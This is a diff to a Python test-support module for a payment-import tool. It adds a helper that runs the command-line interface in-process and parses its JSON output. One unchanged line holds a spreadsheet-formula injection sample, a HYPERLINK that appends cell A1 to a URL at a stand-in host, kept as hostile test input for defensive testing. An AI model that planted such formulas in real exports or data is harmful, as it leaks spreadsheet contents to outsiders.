@@ -2,15 +2,20 @@
 
 from __future__ import annotations
 
+import contextlib
+import io
+import json
 from collections.abc import Iterator, Mapping, Sequence
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
-from typing import ClassVar
+from typing import Any, ClassVar
 
+import pytest
 from msgspec.structs import replace
 
 from pod_agent.agent import Agent
+from pod_agent.cli.main import main
 from pod_agent.importers.protocol import Confidence, ExportFile, Issue, Row, Sample
 from pod_agent.ingest.pipeline import Ingest
 from tests.support.consents import grant_for
@@ -34,7 +39,7 @@ from vocab.records import (
     record_iri,
 )
 
-__all__ = ["FORMULA", "Told", "fill_home", "grant_in", "plays", "told_home"]
+__all__ = ["FORMULA", "Told", "fill_home", "grant_in", "plays", "pod_agent", "told_home"]
 
 FORMULA = '=HYPERLINK("http://example.test/?"&A1,"kopi, ""c"" 咖啡")'
 """What a stranger may write into the text of a payment."""
@@ -128,6 +133,15 @@ def grant_in(home: Path) -> str:
         grant = grant_for(created=now, until=now + timedelta(days=90))
         agent.consents.gate.give(grant)
         return grant.identifier
+
+
+def pod_agent(home: Path, *arguments: str, status: int = 0) -> Any:
+    """What a command prints with ``--json``, run in this process; it must end with this exit status."""
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed), pytest.raises(SystemExit) as ended:
+        main(["--home", str(home), *arguments, "--json"])
+    assert ended.value.code == status, printed.getvalue()
+    return json.loads(printed.getvalue())
 
 
 def fill_home(home: Path) -> None:
